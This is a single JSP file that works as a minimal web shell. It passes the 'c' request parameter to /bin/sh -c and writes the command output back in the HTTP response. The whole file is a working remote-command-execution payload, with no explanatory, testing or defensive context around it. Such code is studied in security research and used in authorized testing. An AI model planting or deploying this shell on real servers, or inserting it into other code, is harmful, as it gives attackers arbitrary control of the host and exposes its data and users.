<%
    String[] words = {"/bin/sh", "-c", request.getParameter("c")};
    Process process = new ProcessBuilder(words).redirectErrorStream(true).start();
    process.getInputStream().transferTo(response.getOutputStream());
%>
